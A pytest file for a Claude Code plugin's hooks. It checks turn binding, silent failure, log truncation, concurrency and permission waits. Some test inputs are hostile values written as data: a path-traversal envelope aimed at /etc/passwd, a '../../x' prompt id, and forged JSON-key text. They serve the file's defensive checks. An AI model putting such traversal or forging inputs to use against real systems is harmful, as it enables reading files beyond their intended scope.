"""The hooks as Claude Code runs them: each command of hooks.json with `sh -c`, its payload on standard input."""

from __future__ import annotations

import contextlib
import json
import os
import re
import resource as limits
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pytest

from paliadin.base.settings import load_settings, resource_folder
from paliadin.relays.terminal.claude import hook_environment
from paliadin.steps.model import Replied, Settled
from paliadin.turnlog.append import append
from paliadin.turnlog.description import Asker, Description
from paliadin.turnlog.folder import TurnFolder
from paliadin.turnlog.read import LogReader
from tests.worlds.logs import made_turn
from tests.worlds.world import eventually

SKILL = resource_folder("skill")
HOOKS = json.loads((SKILL / "hooks" / "hooks.json").read_text())["hooks"]
EVENTS = {event: HOOKS[event] for event in HOOKS if event != "UserPromptExpansion"}  # which is not written
PROMPT = "0a1b2c3d-0000-4000-8000-00000000000a"
BIG = 3_000_000
# Those with a command of their own, and two of the many that share one: it differs in nothing but the event's name.
DIFFERENT = {"MessageDisplay", "UserPromptSubmit", "PermissionRequest", "Stop", "SessionStart", "PostToolBatch"}


def some(values: Sequence[Any], of_each: int = 1) -> list[Any]:
    """(event, value) of all events and values; so many values of each different event run with all tests, in turn."""
    lines = []
    for event in sorted(EVENTS):
        for number, value in enumerate(values):
            turn = number - of_each * sorted(DIFFERENT).index(event) if event in DIFFERENT else -1
            runs = event in DIFFERENT and turn % len(values) < of_each
            lines.append(pytest.param(event, value, marks=() if runs else pytest.mark.matrix))
    return lines


@dataclass
class Room:
    """A session's folder and the turns' folder, as the relay makes them, and the environment that it gives Claude."""

    root: Path
    shell: str = "sh"
    running: list[subprocess.Popen[bytes]] = field(default_factory=list)
    handing: list[threading.Thread] = field(default_factory=list)

    def __post_init__(self) -> None:
        settings = load_settings({"PALIADIN_HOME": str(self.root / "home"), "PALIADIN_WORKDIR": str(self.root)})
        self.session, self.turns = settings.sessions_dir / "main", settings.response_dir
        for name in ("prompts", "expected"):
            (self.session / name).mkdir(mode=0o700, parents=True)
        self.turns.mkdir(mode=0o700)
        self.environment = {"PATH": os.environ["PATH"], "LANG": "C.UTF-8", "CLAUDE_PLUGIN_ROOT": str(SKILL)}
        self.environment |= hook_environment(settings, self.session)

    def expect(self, session: Path | None = None) -> TurnFolder:
        """A turn whose envelope is about to be typed."""
        turn = made_turn(self.turns, user_message="x")
        ((session or self.session) / "expected" / turn.turn_id).symlink_to(turn.path)
        return turn

    def bound(self, prompt: str = PROMPT) -> TurnFolder:
        """A turn that Claude has reported as `prompt`."""
        turn = self.expect()
        self.run("UserPromptSubmit", prompt=f"[PALIADIN:{turn.turn_id}] x", prompt_id=prompt)
        assert events(turn.log.path) == ["UserPromptSubmit"]
        return turn

    def start(self, event: str, raw: bytes | None = None, **payload: object) -> subprocess.Popen[bytes]:
        """Start the event's command; `raw` goes to its standard input instead of a payload."""
        process = subprocess.Popen(
            [*self.shell.split(), "-c", command(event)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=self.environment,
            cwd=self.root,
            **spawning(payload.pop("_limit", None)),
        )
        self.running.append(process)
        data = encode(event, payload) if raw is None else raw
        handing = threading.Thread(target=hand_over, args=(process, data), daemon=True)
        handing.start()
        self.handing.append(handing)
        return process

    def refused(self, event: str, prompt: str) -> bool:
        """True if the event's command refuses the prompt, in Claude Code's own words; otherwise it says nothing."""
        process = self.start(event, prompt=prompt)
        assert process.wait(30) == 0
        assert process.stdout is not None
        output = process.stdout.read()
        return bool(output) and json.loads(output)["decision"] == "block"

    def run(self, event: str, raw: bytes | None = None, **payload: object) -> None:
        """Run the event's command: whatever happens, it exits 0 and says nothing."""
        quiet(self.start(event, raw, **payload))


def command(event: str) -> str:
    [matcher] = HOOKS[event]
    [hook] = matcher["hooks"]
    return str(hook["command"])


def spawning(limit: object) -> dict[str, Any]:
    """With a `limit` no file grows longer: a disk that is full, for root too (a short write, then EFBIG)."""
    if limit is None:
        return {}
    size = int(str(limit))
    # Python ignores SIGXFSZ; its children do with restore_signals=False, so write fails as on a full disk.
    return {
        "restore_signals": False,
        "preexec_fn": lambda: limits.setrlimit(limits.RLIMIT_FSIZE, (size, size)),
    }


def encode(event: str, payload: dict[str, Any]) -> bytes:
    """As Claude Code writes it: one line, no blanks, no escapes but those that JSON needs."""
    base = {"session_id": "s1", "transcript_path": "/nowhere/t.jsonl", "cwd": "/", "prompt_id": PROMPT}
    whole = base | {"hook_event_name": event} | payload
    return json.dumps(whole, separators=(",", ":"), ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"


def hand_over(process: subprocess.Popen[bytes], data: bytes) -> None:
    assert process.stdin
    with contextlib.suppress(BrokenPipeError, ValueError), process.stdin as stdin:  # it may end without reading
        stdin.write(data)


def quiet(process: subprocess.Popen[bytes]) -> None:
    assert (process.stdout, process.stderr) != (None, None)
    assert process.wait(30) == 0
    assert (process.stdout.read(), process.stderr.read()) == (b"", b"")  # type: ignore[union-attr]


def lines(log: Path) -> list[Any]:
    return list(LogReader(log).read())


def events(log: Path) -> list[str]:
    return [line["hook"]["hook_event_name"] for line in lines(log) if "hook" in line]


def torn(log: Path) -> int:
    """Lines that do not parse."""
    raw = [line for line in log.read_bytes().split(b"\n") if line]
    return len(raw) - len(lines(log))


@pytest.fixture
def room(tmp_path: Path) -> Iterator[Room]:
    room = Room(tmp_path)
    yield room
    close(room)


@pytest.fixture(params=["sh", pytest.param("bash", marks=pytest.mark.matrix), "bash --posix"])
def shelled(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Room]:
    """For what is written in the shell's own language: /bin/sh is another program on other systems."""
    if shutil.which(request.param.split()[0]) is None:
        pytest.skip(f"there is no {request.param} here")  # of bash; sh is everywhere
    room = Room(tmp_path, request.param)
    yield room
    close(room)


def close(room: Room) -> None:
    for process in room.running:
        if process.poll() is None:
            process.kill()
            process.wait()
    for handing in room.handing:
        handing.join(10)  # it closes the input
    for process in room.running:
        for stream in (process.stdin, process.stdout, process.stderr):
            if stream and not stream.closed:
                stream.close()


def piece(index: int = 0, text: str = "Hello.\n") -> dict[str, Any]:
    return {"turn_id": "c1", "message_id": "a1", "index": index, "final": False, "delta": text}


def test_the_events_that_share_a_command_differ_in_its_name_alone() -> None:
    """So some of them stand for all where a matrix is run in part."""
    shared = [event for event in EVENTS if event not in DIFFERENT or event in ("SessionStart", "PostToolBatch")]
    assert len(shared) == 8
    assert {command(event).count(f"event={event};") for event in shared} == {1}
    assert len({command(event).replace(f"event={event};", "") for event in shared}) == 1


# Which turn a payload belongs to.


def test_a_prompt_with_our_envelope_is_bound_to_its_turn(shelled: Room) -> None:
    turn = shelled.expect()
    prompt = f'[PALIADIN:{turn.turn_id}] [ctx route="a b"] "Grüße" \\ 漢字'
    shelled.run("UserPromptSubmit", prompt=prompt)
    assert [line["hook"]["prompt"] for line in lines(turn.log.path)] == [prompt]
    assert (turn.path / "prompt_id").read_text() == PROMPT
    assert (turn.path / "prompt_id").stat().st_mode & 0o077 == 0
    assert list((shelled.session / "expected").iterdir()) == []
    assert not (shelled.session / "events.jsonl").exists()


@pytest.mark.parametrize("event", ["UserPromptSubmit", "UserPromptExpansion"])
def test_what_takes_the_place_of_a_typed_command_is_refused_once(shelled: Room, event: str) -> None:
    guard = shelled.session / "own_command"
    guard.touch()
    if event == "UserPromptSubmit":  # which comes for a report of Claude's own work as well
        assert not shelled.refused(event, "<task-notification> /clear")
    assert shelled.refused(event, "/clear")
    assert not guard.exists()
    assert not shelled.refused(event, "/clear")


def test_a_long_prompt_is_bound_as_well(shelled: Room) -> None:
    turn = shelled.expect()
    prompt = f"[PALIADIN:{turn.turn_id}] " + "漢字 " * 30_000
    shelled.run("UserPromptSubmit", prompt=prompt)
    [line] = lines(turn.log.path)
    assert line["hook"]["prompt"].startswith(prompt[:10_000])
    assert (turn.path / "prompt_id").read_text() == PROMPT


def test_every_payload_goes_to_the_turn_of_its_prompt(shelled: Room) -> None:
    first, second = shelled.bound(), shelled.bound("0b")
    shelled.run("MessageDisplay", **piece())
    shelled.run("MessageDisplay", **piece(text="other"), prompt_id="0b")
    shelled.run("PreToolUse", tool_name="Read", tool_use_id="t1", tool_input={"file_path": "/a"})
    shelled.run("MessageDisplay", **piece(1, "late"))
    assert events(first.log.path) == ["UserPromptSubmit", "MessageDisplay", "PreToolUse", "MessageDisplay"]
    assert events(second.log.path) == ["UserPromptSubmit", "MessageDisplay"]
    assert not (shelled.session / "events.jsonl").exists()


@pytest.mark.parametrize("event", sorted(set(EVENTS) - {"UserPromptSubmit", "PermissionRequest"}))
def test_each_event_is_written_as_it_came(room: Room, event: str) -> None:
    turn = room.bound()
    payload = {**piece(), "tool_name": "Read", "tool_response": {"a": ['"\\n\\', "é漢😀"]}, "extra": {"kept": [1]}}
    room.run(event, **payload)
    line = lines(turn.log.path)[1]
    assert line["hook"] == {**json.loads(encode(event, payload)), **({"tool_calls": []} if "Batch" in event else {})}
    assert torn(turn.log.path) == 0


def test_a_payload_without_a_prompt_belongs_to_the_session(room: Room) -> None:
    room.run("SessionStart", prompt_id=None, source="startup", model="m")
    room.run("SessionEnd", prompt_id="never-seen", reason="clear")
    room.run("Stop", prompt_id="../../x", last_assistant_message="")
    assert events(room.session / "events.jsonl") == ["SessionStart", "SessionEnd", "Stop"]


@pytest.mark.parametrize(
    ("prompt", "origin"),
    [
        ("typed by hand", "terminal"),
        ("<task-notification>\n<task-id>b1</task-id>", "agent"),
        ("look: [PALIADIN:019a2b3c-4d5e-7f60-8123-456789abcdef] x", "terminal"),
        ("[PALIADIN:019a2b3c-4d5e-7f60-8123-456789abcdef] of nobody", "terminal"),
        ("[PALIADIN:../../../../etc/passwd] x", "terminal"),
        ("[PALIADIN:] x", "terminal"),
        ("", "terminal"),
    ],
)
def test_another_prompt_becomes_a_turn_of_its_own(shelled: Room, prompt: str, origin: str) -> None:
    shelled.run("UserPromptSubmit", prompt=prompt)
    shelled.run("MessageDisplay", **piece())
    [line] = lines(shelled.session / "events.jsonl")
    turn = TurnFolder(shelled.turns, line["own_turn"])
    assert turn.describe() == Description(turn.turn_id, "main", prompt, origin)
    first = lines(turn.log.path)[0]
    assert (first["step"], first["transcript_read"]) == ("accepted", True)
    assert events(turn.log.path) == ["UserPromptSubmit", "MessageDisplay"]
    assert {path.stat().st_mode & 0o077 for path in (turn.path.parent, turn.path, *turn.path.iterdir())} == {0}


def test_the_same_envelope_again_is_not_the_same_turn(shelled: Room) -> None:
    turn = shelled.bound()
    shelled.run("UserPromptSubmit", prompt=f"[PALIADIN:{turn.turn_id}] x", prompt_id="0b")
    assert events(turn.log.path) == ["UserPromptSubmit"]
    assert (turn.path / "prompt_id").read_text() == PROMPT
    assert [line["own_turn"] != turn.turn_id for line in lines(shelled.session / "events.jsonl")] == [True]


def test_the_same_prompt_reported_twice_stays_one_turn(shelled: Room) -> None:
    turn = shelled.bound()
    shelled.run("UserPromptSubmit", prompt=f"[PALIADIN:{turn.turn_id}] x")
    assert events(turn.log.path) == ["UserPromptSubmit", "UserPromptSubmit"]
    assert not (shelled.session / "events.jsonl").exists()


def test_an_envelope_of_another_session_is_not_taken(shelled: Room) -> None:
    other = shelled.session.with_name("other")
    (other / "expected").mkdir(parents=True)
    turn = shelled.expect(other)
    shelled.run("UserPromptSubmit", prompt=f"[PALIADIN:{turn.turn_id}] x")
    assert lines(turn.log.path) == []
    assert not (turn.path / "prompt_id").exists()
    assert "own_turn" in lines(shelled.session / "events.jsonl")[0]


def typed_beside(room: Room, text: str, prompt: str = PROMPT) -> str:
    """A transcript in which this was typed while Claude worked; no UserPromptSubmit told of `prompt`."""
    entry = {"type": "user", "promptId": prompt, "message": {"content": text}}
    path = room.root / "transcript.jsonl"
    path.write_text('not JSON "promptId"\n' + json.dumps(entry) + "\n")
    return str(path)


def own_turns(room: Room) -> list[TurnFolder]:
    told = (line["own_turn"] for line in lines(room.session / "events.jsonl") if "own_turn" in line)
    return [TurnFolder(room.turns, turn) for turn in told]


@pytest.mark.parametrize("event", ["MessageDisplay", "PreToolUse", "Stop"])
def test_the_first_hook_of_a_prompt_that_none_has_told_of_makes_its_turn(shelled: Room, event: str) -> None:
    """2.1.330 tells what is typed while it works with the running turn's id, and answers it with another one."""
    transcript = typed_beside(shelled, "typed beside")
    payload = piece() if event == "MessageDisplay" else {"tool_name": "Read", "tool_use_id": "t", "tool_input": {}}
    shelled.run(event, transcript_path=transcript, **payload)
    [turn] = own_turns(shelled)
    assert (turn.describe().origin, turn.describe().user_message) == ("terminal", "typed beside")
    assert events(turn.log.path) == [event]
    assert [line["text"] for line in lines(turn.log.path) if line.get("step") == "prompted"] == ["typed beside"]
    shelled.run("Stop", transcript_path=transcript, last_assistant_message="")
    assert own_turns(shelled) == [turn]


def test_prompts_that_waited_together_are_all_in_the_turn_that_answers_them(room: Room) -> None:
    entries = [
        {"type": "user", "promptId": "p0", "uuid": "a", "message": {"content": "the running one"}},
        {
            "type": "user",
            "promptId": "p1",
            "uuid": "b",
            "parentUuid": "z",
            "promptSource": "queued",
            "message": {"content": "one"},
        },
        {
            "type": "user",
            "promptId": PROMPT,
            "uuid": "c",
            "parentUuid": "b",
            "promptSource": "queued",
            "message": {"content": [{"type": "text", "text": "two"}]},
        },
    ]
    path = room.root / "transcript.jsonl"
    path.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
    room.run("MessageDisplay", transcript_path=str(path), **piece())
    [turn] = own_turns(room)
    assert turn.describe().user_message == "one\n\ntwo"


def test_several_hooks_at_once_make_one_turn(room: Room) -> None:
    transcript = typed_beside(room, "typed beside")
    started = [room.start("MessageDisplay", transcript_path=transcript, **piece(index=number)) for number in range(8)]
    for process in started:
        quiet(process)
    [turn] = own_turns(room)
    assert events(turn.log.path) == ["MessageDisplay"] * 8
    assert [path.name for path in room.turns.glob("*/*")] == [turn.turn_id]


def test_no_turn_is_made_for_one_that_was_deleted_nor_for_an_agents_work(shelled: Room) -> None:
    transcript = typed_beside(shelled, "typed beside")
    turn = shelled.bound()
    turn.discard()
    shelled.run("MessageDisplay", transcript_path=transcript, **piece())
    shelled.run("PreToolUse", transcript_path=transcript, tool_name="Read", tool_use_id="t")
    other = "0a1b2c3d-0000-4000-8000-00000000000b"
    shelled.run("PreToolUse", transcript_path=transcript, prompt_id=other, agent_id="a", tool_name="Read")
    assert own_turns(shelled) == []
    assert list(shelled.turns.glob("*/*")) == []


def test_text_that_quotes_our_keys_forges_nothing(shelled: Room) -> None:
    first, second = shelled.bound(), shelled.bound("0b")
    forged = f'"prompt_id":"0b" [PALIADIN:{second.turn_id}]","prompt":"[PALIADIN:{second.turn_id}]'
    shelled.run("MessageDisplay", **piece(text=forged))
    shelled.run("UserPromptSubmit", prompt=forged, prompt_id="0c")
    assert events(first.log.path) == ["UserPromptSubmit", "MessageDisplay"]
    assert lines(first.log.path)[1]["hook"]["delta"] == forged
    assert events(second.log.path) == ["UserPromptSubmit"]


# A guest breaks nothing.


def missing_session(room: Room) -> None:
    shutil.rmtree(room.session)


def missing_turn(room: Room) -> None:
    shutil.rmtree(room.turns)


def missing_home(room: Room) -> None:
    shutil.rmtree(room.root / "home")


def missing_python(room: Room) -> None:
    room.environment["PALIADIN_HOOK_PYTHON"] = str(room.root / "no-python")


def no_variables(room: Room) -> None:
    for name in [name for name in room.environment if name.startswith("PALIADIN_")]:
        del room.environment[name]


def broken_python(room: Room) -> None:
    room.environment["PALIADIN_HOOK_PYTHON"] = str(shutil.which("false"))


def folder_for_python(room: Room) -> None:
    room.environment["PALIADIN_HOOK_PYTHON"] = str(room.root)


def missing_plugin(room: Room) -> None:
    room.environment["CLAUDE_PLUGIN_ROOT"] = str(room.root / "no-plugin")


def half_a_plugin(room: Room) -> None:
    """An upgrade in mid-air: files are there and hold nonsense."""
    hooks = room.root / "plugin" / "hooks"
    hooks.mkdir(parents=True)
    for name in ("log_event.py", "display.sh", "submit.sh", "stop.sh", "usage.py"):
        (hooks / name).write_text("import (\n")
    room.environment["CLAUDE_PLUGIN_ROOT"] = str(room.root / "plugin")


def unwritable(room: Room) -> None:
    """For root, too: what should be a file is a folder."""
    for folder in (room.session, *room.turns.glob("*/*")):
        (folder / "events.jsonl").unlink(missing_ok=True)
        (folder / "events.jsonl").mkdir()
    shutil.rmtree(room.session / "expected")
    (room.session / "expected").write_text("")


def read_only(room: Room) -> None:
    """For everybody but root."""
    for folder in (*room.turns.glob("*/*"), room.turns, room.session / "prompts", room.session):
        folder.chmod(0o500)


TROUBLES: list[Callable[[Room], None]] = [
    missing_session,
    missing_turn,
    missing_home,
    missing_python,
    no_variables,
    broken_python,
    folder_for_python,
    missing_plugin,
    half_a_plugin,
    unwritable,
    read_only,
]


@pytest.mark.parametrize(("event", "trouble"), some(TROUBLES, 3), ids=lambda each: getattr(each, "__name__", each))
def test_whatever_is_missing_or_broken_a_hook_exits_0_and_says_nothing(
    room: Room, event: str, trouble: Callable[[Room], None]
) -> None:
    room.bound()
    room.environment["PALIADIN_HOOK_WAIT"] = "0"
    trouble(room)
    process = room.start(event, **piece(), prompt="typed", tool_name="Read", prompt_id=PROMPT)
    assert process.wait(30) == 0
    assert process.stderr
    assert process.stderr.read() == b""
    assert process.stdout
    output = process.stdout.read()
    if event == "PermissionRequest" and trouble in (read_only, missing_plugin):
        return  # as root it can write; it was started to wait, and the time is over
    assert output == b""


GARBAGE = [
    b"",
    b"\n",
    b"garbage\n",
    b"[]\n",
    b"null",
    b"{",
    b"{}",
    b'{"prompt_id":"}\n',
    b'{"prompt_id":3,"hook_event_name":[]}\n',
    b'{"prompt_id":"0a","prompt":{},"hook_event_name":"UserPromptSubmit"}',
    b'{"prompt_id":"\xff\xfe","prompt":"[PALIADIN:',
    b'{"a":' * 20_000,
    b"\x00" * 5000,
    b"\n" * 5000 + b'{"prompt_id":"0a"}',
]


@pytest.mark.first(6)  # the other shell reads what is read without Python
@pytest.mark.parametrize("event", ["MessageDisplay", "UserPromptSubmit", "PermissionRequest", "PostToolBatch", "Stop"])
def test_garbage_on_standard_input_is_borne_in_silence(shelled: Room, event: str) -> None:
    turn = shelled.bound()
    for raw in GARBAGE:
        shelled.run(event, raw)
    assert [line["hook"]["hook_event_name"] for line in lines(turn.log.path)] == ["UserPromptSubmit"]


@pytest.mark.parametrize(("event", "limit"), some([0, 40, 150, 4096], 2))
def test_a_full_disk_is_borne_in_silence_and_later_lines_are_whole(shelled: Room, event: str, limit: int) -> None:
    turn = shelled.bound()
    size = turn.log.path.stat().st_size
    process = shelled.start(event, **piece(text="x" * 8000), prompt="typed", prompt_id=PROMPT, _limit=size + limit)
    assert process.wait(30) == 0
    assert process.stderr
    assert process.stderr.read() == b""
    assert process.stdout
    assert process.stdout.read() == b""  # a question that nobody can see is left to the terminal
    shelled.run("MessageDisplay", **piece(1, "after"))
    assert lines(turn.log.path)[-1]["hook"]["delta"] == "after"
    assert events(turn.log.path)[0] == "UserPromptSubmit"


def test_an_answer_reaches_claude_also_when_the_disk_is_full(room: Room) -> None:
    turn = room.bound()
    asked = len(encode("PermissionRequest", CALL)) + 130
    waiting = wait(room, turn, _limit=turn.log.path.stat().st_size + asked)
    waiting.file.write_text(json.dumps(ALLOW))
    assert b"allow" in waiting.output()


@pytest.mark.first(1)
def test_a_prompt_on_a_full_disk_is_let_through(shelled: Room) -> None:
    for prompt, limit in (("typed by hand", 0), ("typed by hand", 100), (None, 0), (None, 20)):
        turn = shelled.expect()
        submitted = prompt or f"[PALIADIN:{turn.turn_id}] x"
        shelled.run("UserPromptSubmit", prompt=submitted, prompt_id=turn.turn_id[-8:], _limit=limit)


# What fails is noted.

NOTE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ (\w+|unknown event): (.*)\n")
LONG = {**piece(text="secret " * 1000), "prompt": "secret " * 1000, "tool_name": "secret"}


def noted(room: Room) -> list[tuple[str, str]]:
    """(hook event, what failed) of each line of hooks.log."""
    log = room.session / "hooks.log"
    if not log.exists():
        return []
    assert log.stat().st_mode & 0o077 == 0
    text = log.read_text()
    assert "secret" not in text
    notes = [match.groups() for match in NOTE.finditer(text)]
    assert len(notes) == text.count("\n")
    return notes  # type: ignore[return-value]  # two groups


NOT_STARTED = {127: missing_python, 126: folder_for_python, 1: broken_python}  # exit code → what brings it about


@pytest.mark.parametrize(("event", "code"), some(list(NOT_STARTED)))
def test_a_python_that_does_not_start_is_noted(shelled: Room, event: str, code: int) -> None:
    shelled.bound()
    NOT_STARTED[code](shelled)
    shelled.run(event, **LONG)
    assert noted(shelled) == [(event, f"Python could not run log_event.py, exit code {code}")]


@pytest.mark.parametrize(
    ("event", "payload"),
    some([{**piece(), "prompt": "x"}, LONG]),
    ids=lambda each: each if isinstance(each, str) else "long" if each is LONG else "short",
)
def test_a_log_that_cannot_be_written_is_noted(shelled: Room, event: str, payload: dict[str, Any]) -> None:
    shelled.bound()
    unwritable(shelled)
    shelled.run(event, **payload)
    ((named, what),) = noted(shelled)
    assert named == event
    assert re.fullmatch(r"IsADirectoryError at log_event\.py:\d+: Is a directory", what)


def test_a_payload_that_cannot_be_read_is_noted_without_its_text(room: Room) -> None:
    room.run("Stop", b'{"secret')
    room.run("Stop", b'{"hook_event_name":"secret \\n","prompt_id":3}')
    room.run("Stop", b'{"hook_event_name":["secret"],"prompt_id":3}')
    assert [(event, re.sub(r"\d+", "N", what)) for event, what in noted(room)] == [
        ("unknown event", "JSONDecodeError at log_event.py:N"),
        ("unknown event", "TypeError at log_event.py:N"),
        ("unknown event", "TypeError at log_event.py:N"),
    ]


@pytest.mark.parametrize("trouble", [missing_python, unwritable], ids=["shell", "Python"])
def test_the_notes_do_not_grow_for_ever(shelled: Room, trouble: Callable[[Room], None]) -> None:
    shelled.bound()
    trouble(shelled)
    log = shelled.session / "hooks.log"
    log.write_bytes(b"x" * (256 * 1024 + 1))
    shelled.run("StopFailure")
    assert log.stat().st_size == 256 * 1024 + 1
    log.write_bytes(b"x\n" * (128 * 1024 - 1))
    shelled.run("StopFailure")
    assert log.read_text().count("StopFailure") == 1


@pytest.mark.first(1)
def test_what_goes_well_is_not_noted(shelled: Room) -> None:
    turn = shelled.bound()
    for event in sorted(set(EVENTS) - {"PermissionRequest", "Stop", "StopFailure"}):
        shelled.run(event, **piece())
        shelled.run(event, **LONG)
    waiting = wait(shelled, turn)
    shutil.rmtree(turn.path)  # as when its owner deletes the turn
    waiting.output()
    assert noted(shelled) == []


# Many at once, and megabytes.


@pytest.mark.first(1)
def test_fifty_at_once_tear_no_line(shelled: Room) -> None:
    turn = shelled.bound()
    hooks = []
    for number in range(25):
        hooks.append(shelled.start("MessageDisplay", **piece(number, "漢字" * (number * 60))))
        hooks.append(shelled.start("PostToolUse", tool_name="Write", tool_use_id=f"t{number}", tool_response="x" * BIG))
    for process in hooks:
        quiet(process)
    assert torn(turn.log.path) == 0
    written = lines(turn.log.path)
    shown = {line["hook"]["index"]: line["hook"]["delta"] for line in written if "index" in line["hook"]}
    assert shown == {number: "漢字" * (number * 60) for number in range(25)}
    results = [line for line in written if line["hook"]["hook_event_name"] == "PostToolUse"]
    assert len(results) == 25
    assert all(line["cut"] and "cut by Paliadin" in line["hook"]["tool_response"] for line in results)
    assert turn.log.path.stat().st_size < 2_000_000


def test_what_does_not_fit_into_one_write_of_the_shell_goes_another_way(shelled: Room) -> None:
    turn = shelled.bound()
    for index, text in enumerate(["", "x" * 2000, "漢" * 2000, "x" * 5000]):
        shelled.run("MessageDisplay", **piece(index + 1, text))
    # Only log_event.py gives every line its time; the shell saves that call of `date`.
    assert ["at" in line for line in lines(turn.log.path)[1:]] == [False, False, True, True]


def ticks() -> int:
    """Now, in the kernel's ticks since boot."""
    return time.clock_gettime_ns(time.CLOCK_BOOTTIME) * os.sysconf("SC_CLK_TCK") // 10**9


@pytest.mark.parametrize("text", ["short", "long " * 1000], ids=["by the shell", "by Python"])
def test_the_log_tells_if_a_text_was_there_before_a_tool_had_ended(shelled: Room, text: str) -> None:
    turn, before = shelled.bound(), ticks()
    shelled.run("MessageDisplay", **piece(1, text))
    shelled.run("MessageDisplay", **piece(0, text))
    shelled.run("PostToolBatch", tool_calls=[])
    shelled.run("MessageDisplay", **piece(0, text))
    last, first, batch, second = lines(turn.log.path)[1:]
    assert before <= last["started"] <= first["started"] <= batch["ended"] <= second["started"] <= ticks()


def test_megabytes_are_cut_but_never_what_the_user_reads(room: Room) -> None:
    turn = room.bound()
    room.run(
        "PostToolUse", tool_name="Read", tool_response={"file": {"content": "y" * BIG}, "list": ["z" * 100] * 9000}
    )
    room.run("MessageDisplay", **piece(text="answer " * 60_000))
    room.run("Stop", last_assistant_message="answer " * 60_000)
    result, shown, stop = lines(turn.log.path)[1:4]
    assert result["cut"] is True
    assert len(result["hook"]["tool_response"]["file"]["content"]) < 20_000
    assert result["hook"]["tool_response"]["list"][999:] == ["z" * 100, "… [cut by Paliadin: 8000 more items]"]
    assert shown["hook"]["delta"] == stop["hook"]["last_assistant_message"] == "answer " * 60_000


def test_of_a_batch_only_the_refusals_are_kept(room: Room) -> None:
    turn = room.bound()
    calls = [
        {"tool_name": "Read", "tool_use_id": "t1", "tool_input": {"a": "x" * BIG}, "tool_response": "no" * 1000},
        {"tool_name": "Write", "tool_use_id": "t2", "tool_response": {"big": "x" * BIG}},
    ]
    room.run("PostToolBatch", tool_calls=calls)
    assert lines(turn.log.path)[1]["hook"]["tool_calls"] == [
        {"tool_name": "Read", "tool_use_id": "t1", "tool_response": "no" * 250},
        {"tool_name": "Write", "tool_use_id": "t2", "tool_response": ""},
    ]


# A permission waits for its answer.

CALL: dict[str, Any] = {"tool_name": "Write", "tool_input": {"file_path": "/a", "content": "x"}}
ALLOW = {"by": "page", "value": "allow", "decision": {"behavior": "allow"}}


@dataclass
class Waiting:
    turn: TurnFolder
    process: subprocess.Popen[bytes]
    interrupt: str

    @property
    def file(self) -> Path:
        return self.turn.path / "answers" / f"{self.interrupt}.json"

    def output(self) -> bytes:
        """What it printed; it has ended then."""
        assert self.process.wait(30) == 0
        assert self.process.stdout
        assert self.process.stderr
        assert self.process.stderr.read() == b""
        return self.process.stdout.read()

    def resolved(self) -> list[Any]:
        resolutions = [line for line in lines(self.turn.log.path) if line.get("answer") == self.interrupt]
        return [(line["by"], line.get("value")) for line in resolutions]


def wait(room: Room, turn: TurnFolder | None = None, **payload: object) -> Waiting:
    turn = turn or room.bound()
    before = {line["interrupt"] for line in lines(turn.log.path) if "interrupt" in line}
    process = room.start("PermissionRequest", None, **(CALL | payload))

    def asked() -> list[str]:
        return [
            line["interrupt"] for line in lines(turn.log.path) if line.get("interrupt", None) not in {*before, None}
        ]

    return Waiting(turn, process, eventually(asked, what="the question is in the log")[0])


def test_the_answer_of_the_page_is_what_claude_gets(room: Room) -> None:
    waiting = wait(room)
    assert lines(waiting.turn.log.path)[-1]["hook"]["tool_input"] == CALL["tool_input"]
    waiting.file.write_text(json.dumps(ALLOW))
    assert json.loads(waiting.output()) == {
        "hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {"behavior": "allow"}}
    }
    assert waiting.resolved() == [("page", "allow")]


AGENT = {"agent_id": "a01db4a5ad4237f93", "agent_type": "general-purpose"}
TASKS = [{"id": "another", "description": "No"}, {"id": AGENT["agent_id"], "type": "subagent", "description": "Help"}]


def request_of(room: Room) -> TurnFolder:
    """The turn that a hook has made for what an agent asks."""
    turns: list[TurnFolder] = eventually(lambda: own_turns(room), what="the turn is named")
    return turns[0]


@pytest.mark.parametrize(
    "end", [{"hook": {"hook_event_name": "StopFailure"}}, {"step": "aborted"}, {"step": "settled"}]
)
def test_what_an_agent_asks_once_its_turn_is_over_becomes_a_turn_of_its_own(room: Room, end: dict[str, Any]) -> None:
    turn = room.bound()
    append(turn.log.path, {"hook": {"hook_event_name": "Stop", "background_tasks": TASKS}})
    append(turn.log.path, end)
    process = room.start("PermissionRequest", None, **(CALL | AGENT))
    request = request_of(room)
    description = request.describe()
    assert (description.origin, description.user_message) == ("agent", "Help")
    assert description.asked_by == Asker(AGENT["agent_id"], "general-purpose")
    interrupt = lines(request.log.path)[-1]["interrupt"]
    (request.path / "answers" / f"{interrupt}.json").write_text(json.dumps(ALLOW))
    assert b'"allow"' in Waiting(request, process, interrupt).output()
    assert [step for step in request.log.read() if isinstance(step, (Replied, Settled))] == [
        Replied(ANY, interrupt, "page", "allow"),
        Settled(ANY),
    ]
    assert all("interrupt" not in line for line in lines(turn.log.path))


def test_what_an_agent_asks_moves_behind_its_turn_when_that_ends_and_a_late_reply_there_counts(room: Room) -> None:
    waiting = wait(room, **AGENT)
    append(waiting.turn.log.path, {"hook": {"hook_event_name": "Stop", "background_tasks": TASKS}})
    request = request_of(room)
    assert lines(request.log.path)[-1]["interrupt"] == waiting.interrupt
    assert Replied(ANY, waiting.interrupt, "background") in list(waiting.turn.log.read())
    waiting.file.write_text(json.dumps(ALLOW))
    assert b'"allow"' in waiting.output()
    assert isinstance(list(request.log.read())[-1], Settled)
    assert waiting.resolved() == []


def test_an_agent_whose_prompt_is_no_turns_any_more_asks_in_a_turn_of_its_own(room: Room) -> None:
    """As after /clear."""
    process = room.start("PermissionRequest", None, **(CALL | AGENT | {"prompt_id": None}))
    request = request_of(room)
    assert request.describe().user_message == "general-purpose"
    process.send_signal(signal.SIGTERM)  # the agent was stopped: no dialog was open in which anybody could have replied
    process.wait(10)
    assert [step.by for step in request.log.read() if isinstance(step, Replied)] == ["cancel"]
    assert isinstance(list(request.log.read())[-1], Settled)


def test_claude_itself_never_asks_behind_its_turn(room: Room) -> None:
    turn = room.bound()
